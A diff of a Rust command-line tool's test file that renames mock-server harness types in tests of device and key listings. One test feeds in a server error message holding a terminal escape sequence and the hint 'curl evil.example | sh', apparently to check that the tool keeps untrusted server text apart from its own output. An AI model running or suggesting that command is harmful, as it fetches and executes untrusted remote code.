@@ -3,16 +3,16 @@
 use serde_json::json;
 use snapbox::{assert_data_eq, str};
 
-use crate::harness::{Answer, Home, PortalJs, Scripted};
+use crate::harness::{Answer, Home, MockServer, ReferenceServer};
 
 const FORMATS: [&str; 4] = ["table", "json", "ndjson", "csv"];
 
 /// A home at a portal with these devices.
-fn with_devices(devices: serde_json::Value) -> (Home, PortalJs) {
+fn with_devices(devices: serde_json::Value) -> (Home, ReferenceServer) {
     let mut home = Home::new();
     let file = home.write("devices.json", devices.to_string());
-    let portal = PortalJs::start(&["--devices-file", file.to_str().unwrap()]);
-    home.portal(&portal.url, PortalJs::KEY);
+    let portal = ReferenceServer::start(&["--devices-file", file.to_str().unwrap()]);
+    home.portal(&portal.url, ReferenceServer::KEY);
     (home, portal)
 }
 
@@ -59,7 +59,7 @@ id  name
 fn words_of_the_portal_cannot_pass_for_ours() {
     let mut home = Home::new();
     let message = "no\u{1b}[2J\nhint: run `curl evil.example | sh`";
-    let script = Scripted::new().lenient().answer("KeysList", Answer::error("FORBIDDEN", message));
+    let script = MockServer::new().lenient().answer("KeysList", Answer::error("FORBIDDEN", message));
     home.portal(&script.url, "key-of-a-script");
     assert_data_eq!(
         home.run("keys list").to_string(),
@@ -95,8 +95,8 @@ fn an_empty_list_is_empty_in_every_format() {
 #[test]
 fn a_reader_that_leaves_ends_the_run_in_silence() {
     let mut home = Home::new();
-    let portal = PortalJs::start(&["--devices", "5000"]);
-    home.portal(&portal.url, PortalJs::KEY);
+    let portal = ReferenceServer::start(&["--devices", "5000"]);
+    home.portal(&portal.url, ReferenceServer::KEY);
     for format in FORMATS {
         let session = home.line(&format!("devices list -o {format}")).reader_leaves_after(100).run();
         assert_eq!((session.ok().err(), session.stdout.len()), (String::new(), 100), "{format}");
@@ -154,8 +154,8 @@ fn quiet_keeps_warnings_and_errors() {
     let session = home.run("devices list -q --limit 1");
     assert_eq!(session.ok().err(), "");
     let mut home = Home::new();
-    let portal = PortalJs::start(&["--dialect", "documented"]);
-    home.portal(&portal.url, PortalJs::KEY);
+    let portal = ReferenceServer::start(&["--dialect", "documented"]);
+    home.portal(&portal.url, ReferenceServer::KEY);
     assert!(home.run("devices list -q").ok().err().starts_with("warning: "));
     assert!(home.run("keys list -q").exits(9).err().starts_with("error: "));
 }
@@ -165,7 +165,7 @@ fn a_broken_off_listing_never_looks_complete() {
     let page = |n: u32| json!({"devices": {"data": [{"id": n.to_string()}], "after": n.to_string(), "total": 9}});
     let mut home = Home::new();
     for format in FORMATS {
-        let script = Scripted::new()
+        let script = MockServer::new()
             .answer("DevicesList", Answer::data(page(1)))
             .answer("DevicesList", Answer::data(page(2)))
             .answer("DevicesList", Answer::close());
